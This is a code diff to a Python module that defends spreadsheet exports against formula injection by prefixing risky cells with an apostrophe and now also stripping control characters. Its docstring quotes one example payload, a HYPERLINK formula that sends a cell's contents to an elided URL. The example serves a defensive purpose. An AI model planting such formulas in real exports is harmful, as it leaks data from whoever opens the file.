@@ -4,11 +4,14 @@ A spreadsheet program runs a cell that starts with =, +, - or @ (or a tab or a c
 return before one) as a formula: a title such as `=HYPERLINK("https://…?"&A1,"Cliquez ici")`
 would leak the sheet or run a command. Every CSV, XLSX and ODS the site and the back office
 produce passes its text cells through `neutralise`, which puts an apostrophe in front, as OWASP
-advises; the back-office import takes it off again (`unneutralise`), so a round trip keeps the
-text. Numbers, and texts that are plain numbers such as "-3", stay as they are.
+advises (and drops the control characters a spreadsheet cannot hold); the back-office import
+takes it off again (`unneutralise`), so a round trip keeps the text. Numbers, and texts that
+are plain numbers such as "-3", stay as they are.
 """
 
 import re
+
+from .text import printable
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 QUOTE = "'"
@@ -23,7 +26,9 @@ def _runs(text: str) -> bool:
 
 
 def neutralise(value):
-    """`value`, with an apostrophe in front when it is a text a spreadsheet would run."""
+    """`value`, with an apostrophe in front when it is a text a spreadsheet would run, and
+    without the control characters a spreadsheet cannot hold (openpyxl refuses them)."""
+    value = printable(value)
     if isinstance(value, str) and _runs(value):
         return QUOTE + value
     return value
